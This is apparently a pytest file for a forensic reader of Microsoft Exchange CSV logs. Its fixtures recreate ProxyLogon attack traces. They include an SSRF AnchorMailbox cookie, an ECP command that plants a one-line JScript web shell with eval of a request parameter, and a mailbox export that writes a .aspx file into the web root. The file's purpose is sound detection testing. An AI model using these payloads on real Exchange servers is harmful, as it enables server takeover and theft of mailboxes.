"""The Exchange CSV reader: HttpProxy, EWS, ECP, CmdletInfra and message tracking logs.

Fixtures are written from the documented formats (research notes, exchange-log-formats.md and
detection-anchors.md §1.2: directive headers, the Exchange 2016 CU23 / 15.01.2375 field lists,
example rows), with the quoting Exchange uses: values with commas or quotes in double quotes,
quotes doubled.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from builders import read
from builders import write_file as write

from varde.sources import exchange_csv
from varde.sources.exchange_csv import ExchangeCsvReader, family_of, split_pairs

HTTPPROXY_FIELDS = ["DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion", "ClientRequestId", "Protocol", "UrlHost", "UrlStem", "ProtocolAction", "AuthenticationType", "IsAuthenticated", "AuthenticatedUser", "Organization", "AnchorMailbox", "UserAgent", "ClientIpAddress", "ServerHostName", "HttpStatus", "BackEndStatus", "ErrorCode", "Method", "ProxyAction", "TargetServer", "TargetServerVersion", "RoutingType", "RoutingHint", "BackEndCookie", "ServerLocatorHost", "ServerLocatorLatency", "RequestBytes", "ResponseBytes", "TargetOutstandingRequests", "AuthModulePerfContext", "HttpPipelineLatency", "CalculateTargetBackEndLatency", "GlsLatencyBreakup", "TotalGlsLatency", "AccountForestLatencyBreakup", "TotalAccountForestLatency", "ResourceForestLatencyBreakup", "TotalResourceForestLatency", "ADLatency", "SharedCacheLatencyBreakup", "TotalSharedCacheLatency", "ActivityContextLifeTime", "ModuleToHandlerSwitchingLatency", "ClientReqStreamLatency", "BackendReqInitLatency", "BackendReqStreamLatency", "BackendProcessingLatency", "BackendRespInitLatency", "BackendRespStreamLatency", "ClientRespStreamLatency", "KerberosAuthHeaderLatency", "HandlerCompletionLatency", "RequestHandlerLatency", "HandlerToModuleSwitchingLatency", "ProxyTime", "CoreLatency", "RoutingLatency", "HttpProxyOverhead", "TotalRequestTime", "RouteRefresherLatency", "UrlQuery", "BackEndGenericInfo", "GenericInfo", "GenericErrors", "EdgeTraceId", "DatabaseGuid", "UserADObjectGuid", "PartitionEndpointLookupLatency", "RoutingStatus"]


def header(log_type: str, fields: list[str] | str, version: str = "15.01.2375.007") -> str:
    names = fields if isinstance(fields, str) else ",".join(fields)
    return (f"#Software: Microsoft Exchange Server\r\n#Version: {version}\r\n#Log-type: {log_type}\r\n"
            f"#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: {names}\r\n")


def csv_value(text: str) -> str:
    """A value as Exchange writes it: quoted (quotes doubled) when it holds a comma or a quote."""
    return '"' + text.replace('"', '""') + '"' if ("," in text or '"' in text) else text


def httpproxy_row(fields: list[str] = HTTPPROXY_FIELDS, **values: str) -> str:
    return ",".join(csv_value(values.get(name, "")) for name in fields)


PROXYLOGON = {  # the worked ProxyLogon sequence of detection-anchors.md §1.2, third request
    "DateTime": "2021-03-03T06:49:44.512Z", "RequestId": "5e58f5e5-1ddc-48d3-82c6-0199bc121640",
    "MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2176", "RevisionVersion": "2", "Protocol": "Ecp",
    "UrlHost": "mail.example.org", "UrlStem": "/ecp/y.js", "AuthenticationType": "Negotiate", "IsAuthenticated": "false",
    "AnchorMailbox": "ServerInfo~a]@EXCH01.corp.example:444/ecp/proxyLogon.ecp?#",
    "UserAgent": "python-requests/2.25.1", "ClientIpAddress": "203.0.113.7", "ServerHostName": "EXCH01",
    "HttpStatus": "241", "BackEndStatus": "241", "Method": "POST", "ProxyAction": "Proxy",
    "TargetServer": "EXCH01.corp.example", "RoutingHint": "X-BEResource-Cookie",
    "GenericInfo": "BeginRequest=2021-03-03T06:49:44.500Z;CorrelationID=<empty>;ProxyState-Run=None;"
                   "EndRequest=2021-03-03T06:49:44.512Z;",
    "UrlQuery": "?msExchEcpCanary=abc%3D%3D",
}


def test_httpproxy_log_with_bom_crlf_and_quoted_values(tmp_path: Path) -> None:
    agent = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "quoted"'
    rows = [httpproxy_row(**PROXYLOGON), httpproxy_row(**{**PROXYLOGON, "UserAgent": agent, "HttpStatus": "200"})]
    text = b"\xef\xbb\xbf" + (header("HttpProxy Logs", HTTPPROXY_FIELDS) + "\r\n".join(rows) + "\r\n").encode()
    path = write(tmp_path, "V15/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG", text)
    result = read(tmp_path, path)
    assert result.only()["reader"] == "exchange-csv" and result.only()["records"] == 2
    assert result.warnings == []
    first, second = result.events
    assert (first["channel"], first["provider"], first["host"], first["event_id"]) == \
        ("Exchange HttpProxy", "Ecp", "EXCH01", None)
    assert first["locator"] == "line 6" and str(first["ts"]) == "2021-03-03 06:49:44.512000"
    fields = first["fields"]
    assert len([n for n in HTTPPROXY_FIELDS if n in fields]) == 74
    assert fields["AnchorMailbox"] == PROXYLOGON["AnchorMailbox"] and fields["HttpStatus"] == "241"
    assert fields["Url"] == "/ecp/y.js?msExchEcpCanary=abc%3D%3D"
    assert fields["UrlDecoded"] == "/ecp/y.js?msExchEcpCanary=abc=="
    assert fields["ErrorCode"] == ""  # empty as logged
    assert second["fields"]["UserAgent"] == agent


def test_protocol_from_the_column_when_the_folder_does_not_say(tmp_path: Path) -> None:
    older = [n for n in HTTPPROXY_FIELDS if n not in ("UrlHost", "RoutingType")]  # older builds lack some columns
    older[older.index("BackEndCookie")] = "BackendCookie"
    text = header("HttpProxy Logs", older, "15.01.0225.042") + httpproxy_row(older, **{
        **PROXYLOGON, "Protocol": "Autodiscover", "UrlStem": "/autodiscover/autodiscover.xml", "UrlQuery": "",
        "BackendCookie": "Server~EXCH01.corp.example~1942062522~2021-03-03T07:00:00"}) + "\r\n"
    result = read(tmp_path, write(tmp_path, "evidence/HttpProxy_2021030306-1.LOG", text))
    [event] = result.events
    assert event["provider"] == "Autodiscover" and event["fields"]["Url"] == "/autodiscover/autodiscover.xml"
    assert event["fields"]["BackendCookie"].startswith("Server~") and "UrlHost" not in event["fields"]


ECP_CMD = ("S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">"
           "function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>'.Identity='8a7f2c3e'")


def test_ecp_server_log_splits_event_data_pairs(tmp_path: Path) -> None:
    data = (f"S:TIME=13;S:SID=1d2c;{ECP_CMD};S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary="
            "Q1w2;S:REFERRER=;S:EX=;S:ACTID=6f1e;S:RS=0;S:BLD=15.1.2176.2;I32:ADS.C[DC01]=1;S:USID=9c9c")
    text = header("ECP Server Log", "TimeStamp,ServerName,EventId,EventData", "15.0.0.0") + \
        f"2021-03-03T06:50:01.966Z,EXCH01,ECP.Request,{csv_value(data)}\r\n"
    result = read(tmp_path, write(tmp_path, "Logging/ECP/Server/ECPServer20210303-1.LOG", text))
    [event] = result.events
    assert (event["channel"], event["host"], event["provider"]) == ("Exchange ECP Server", "EXCH01", None)
    fields = event["fields"]
    assert fields["EventData"] == data
    assert fields["S:CMD"] == ECP_CMD.removeprefix("S:CMD=")
    assert fields["S:URL"] == "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Q1w2"
    assert fields["S:REQID"] == "" and fields["S:USID"] == "9c9c"
    assert not any(name.startswith("I32:") for name in fields)


def test_ecp_activity_log(tmp_path: Path) -> None:
    data = ("S:PSA=<PII>admin@corp.example</PII>;S:URL=https://localhost:444/ecp/RulesEditor/InboxRules.svc/GetList"
            "?msExchEcpCanary=C;S:Bld=15.1.2375.7;S:ActID=1234;Dbl:WLM.TS=16")
    text = header("ECP Activity Context Log", "TimeStamp,ServerName,EventId,EventData", "15.0.0.0") + \
        f"2023-01-10T00:52:12.021Z,EXCH01,Request,{data}\n"
    [event] = read(tmp_path, write(tmp_path, "ECPActivity_11500_20230111-1.LOG", text)).events
    assert event["channel"] == "Exchange ECP Activity"
    assert event["fields"]["S:URL"].endswith("GetList?msExchEcpCanary=C") and event["fields"]["S:ActID"] == "1234"


RPS_HTTP = ("DateTime,StartTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,UrlHost,"
            "UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,ManagedOrganization,"
            "ClientIpAddress,ServerHostName,FrontEndServer,HttpStatus,SubStatus,ErrorCode,Action,CommandId,CommandName,"
            "SessionId,ShellId,FailFast,ContributeToFailFast,RequestBytes,ClientInfo,CPU,Memory,"
            "ActivityContextLifeTime,TotalTime,UrlQuery,GenericLatency,GenericInfo,GenericErrors")
RPS_CMDLET = ("DateTime,StartTime,RequestId,ClientRequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,"
              "ServerHostName,ProcessId,ProcessName,ThreadId,CultureInfo,Organization,AuthenticatedUser,"
              "ExecutingUserSid,EffectiveOrganization,UserServicePlan,IsAdmin,ClientApplication,Cmdlet,Parameters")
TRACKING = ("date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,"
            "internal-message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,"
            "recipient-count,related-recipient-address,reference,message-subject,sender-address,return-path,"
            "message-info,directionality,tenant-id,original-client-ip,original-server-ip,custom-data,"
            "transport-traffic-type,log-id,schema-version")


def test_cmdletinfra_and_message_tracking_logs(tmp_path: Path) -> None:
    http = header("Rps Http Logs", RPS_HTTP) + ",".join([  # noqa: FLY002 (one value per column)
        "2022-12-20T10:00:00.100Z", "2022-12-20T10:00:00.000Z", "a1", "15", "1", "2375", "7", "", "exch01",
        "/powershell", "Kerberos", "true", "CORP\\svc", "", "", "203.0.113.50", "EXCH01", "EXCH01", "200", "0", "",
        "Command", "c1", "New-MailboxExportRequest", "s1", "sh1", "False", "False", "1024", "", "", "", "", "20",
        "?X-Rps-CAT=VgEAVAdXaW5kb3dz", "", "", ""]) + "\r\n"
    cmdlet = header("Rps Cmdlet Logs", RPS_CMDLET) + ",".join([
        "2023-01-11T01:01:19.898Z", "2023-01-11T01:01:19.882Z", "7b91", "", "15", "1", "2375", "7", "EXCH01", "15756",
        "w3wp#MSExchangePowerShellAppPool", "85", "", "", "CORP\\admin", "S-1-5-21-1-2-3-500", "", "", "True",
        "Remote-ManagementShell-Unknown", "New-MailboxExportRequest",
        csv_value('-Mailbox "ceo" -FilePath "\\\\EXCH01\\c$\\inetpub\\wwwroot\\aspnet_client\\x.aspx"')]) + "\r\n"
    tracking = header("Message Tracking Log", TRACKING) + ",".join([
        "2022-09-19T15:02:29.450Z", "fe80::1%3", "EXCH01.corp.example", "fe80::2%3", "EXCH01",
        csv_value("MDB:1, Mailbox:2, Event:63779422, MessageClass:IPM.Note"), "", "STOREDRIVER", "RECEIVE", "438",
        "<m1@corp.example>", "6a63", "ext@example.net", "To", "3750222", "1", "", "", csv_value('Quarterly "results", Q3'),
        "ceo@corp.example", "ceo@corp.example", "04I: ", "Originating", "", "95.11.22.33", "", "S:DeliveryPriority=Normal",
        "Email", "12345678", "15.01.2375.007"]) + "\r\n"
    result = read(tmp_path, write(tmp_path, "CmdletInfra/Powershell-Proxy/Http/Rps_Http_2022122010-1.LOG", http),
                  write(tmp_path, "CmdletInfra/Powershell-Proxy/Cmdlet/Rps_Cmdlet_2023011101-1.LOG", cmdlet),
                  write(tmp_path, "MessageTracking/MSGTRKMS2022091915-1.LOG", tracking))
    assert result.warnings == []
    by_channel = {e["channel"]: e for e in result.events}
    assert set(by_channel) == {"Exchange Rps Http", "Exchange Rps Cmdlet", "Exchange Message Tracking"}
    http_event = by_channel["Exchange Rps Http"]
    assert http_event["fields"]["Url"] == "/powershell?X-Rps-CAT=VgEAVAdXaW5kb3dz" and http_event["host"] == "EXCH01"
    assert by_channel["Exchange Rps Cmdlet"]["fields"]["Parameters"].endswith('wwwroot\\aspnet_client\\x.aspx"')
    tracked = by_channel["Exchange Message Tracking"]
    assert tracked["fields"]["message-subject"] == 'Quarterly "results", Q3' and tracked["host"] is None
    assert str(tracked["ts"]) == "2022-09-19 15:02:29.450000"


def test_unknown_log_type_and_folder_families(tmp_path: Path) -> None:
    text = header("SMTP Receive Protocol Log", "date-time,connector-id,session-id,sequence-number,local-endpoint,"
                  "remote-endpoint,event,data,context", "15.0.0.0") + \
        "2023-01-11T15:59:53.909Z,EXCH01\\Default Frontend EXCH01,08DAF3,2,10.0.0.5:25,203.0.113.9:56026,<,EHLO x,\n"
    [event] = read(tmp_path, write(tmp_path, "RECV2023011115-1.LOG", text)).events
    assert event["channel"] == "Exchange SMTP Receive Protocol Log"
    assert family_of("HttpProxy Logs", "x") == "HttpProxy" and family_of("MapiHttp Logs", "x") == "MapiHttp"
    assert family_of("EWS Logs", "x") == "EWS" and family_of(None, r"C:\V15\Logging\OABGeneratorLog\a.LOG") == \
        "OAB Generator"


def test_damaged_lines_are_counted_and_the_rest_is_kept(tmp_path: Path) -> None:
    good = httpproxy_row(**PROXYLOGON)
    lines = [
        "2021-03-03T06:49:40.000Z,orphan,row",  # before any header: cannot be named
        *header("HttpProxy Logs", HTTPPROXY_FIELDS).splitlines(),
        good,
        good.replace("python-requests/2.25.1", '"python-requests, unbalanced'),
        good.replace(",Ecp,", ",Ecp,extra,"),
        good.replace("2021-03-03T06:49:44.512Z", "yesterday"),
        good,
    ]
    result = read(tmp_path, write(tmp_path, "Ecp/HttpProxy_2021030306-1.LOG", "\n".join(lines) + "\n"))
    evidence = result.only()
    assert evidence["records"] == 3 and evidence["skipped_records"] == 3
    by_line = {w["locator"]: w["message"] for w in result.warnings}
    assert "no #Fields header" in by_line["line 1"]
    assert "unbalanced double quotes" in by_line["line 8"]
    assert "wrong number of columns" in by_line["line 9"]
    assert "not a valid time" in by_line["line 10"]
    assert [e["locator"] for e in result.events] == ["line 7", "line 10", "line 11"]


def test_hostile_huge_line_and_binary_garbage(tmp_path: Path) -> None:
    good = httpproxy_row(**PROXYLOGON)
    huge = good.replace("python-requests/2.25.1", "A" * (3 << 20))
    text = (header("HttpProxy Logs", HTTPPROXY_FIELDS) + good + "\n" + huge + "\n").encode() + \
        b"\x00\xff\xfe garbage \x80\n" + good.encode() + b"\n"
    result = read(tmp_path, write(tmp_path, "HttpProxy_2021030306-1.LOG", text))
    assert result.only()["records"] == 2 and result.only()["skipped_records"] == 2
    assert [e["locator"] for e in result.events] == ["line 6", "line 9"]


@pytest.mark.parametrize(("head", "expected"), [
    (header("HttpProxy Logs", HTTPPROXY_FIELDS).encode(), True),
    (b"\xef\xbb\xbf" + header("ECP Server Log", "TimeStamp,ServerName,EventId,EventData").encode(), True),
    (b"#Software: Microsoft Internet Information Services 10.0\n#Fields: date time cs-method\n", False),
    (b"DateTime,RequestId\n2021-03-03T00:00:00Z,1\n", False),
])
def test_sniffing_is_by_content(head: bytes, expected: bool) -> None:
    assert ExchangeCsvReader().sniff(head, "file.txt") is expected


def test_pairs_split_only_before_typed_keys() -> None:
    pairs = split_pairs("S:A=1;S:CMD=x;y;}z;S:B=;Dbl:T=2")
    assert pairs == {"S:A": "1", "S:CMD": "x;y;}z", "S:B": ""}


def test_event_data_keys_are_capped(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr(exchange_csv, "MAX_PAIR_FIELDS", 3)
    data = ";".join(f"S:K{n}=v{n}" for n in range(6))
    text = header("ECP Server Log", "TimeStamp,ServerName,EventId,EventData", "15.0.0.0") + \
        f"2021-03-03T06:50:01.966Z,EXCH01,ECP.Request,{data}\n"
    [event] = read(tmp_path, write(tmp_path, "ECPServer20210303-1.LOG", text)).events
    assert sorted(k for k in event["fields"] if k.startswith("S:")) == ["S:K0", "S:K1", "S:K2"]
    assert event["fields"]["EventData"] == data
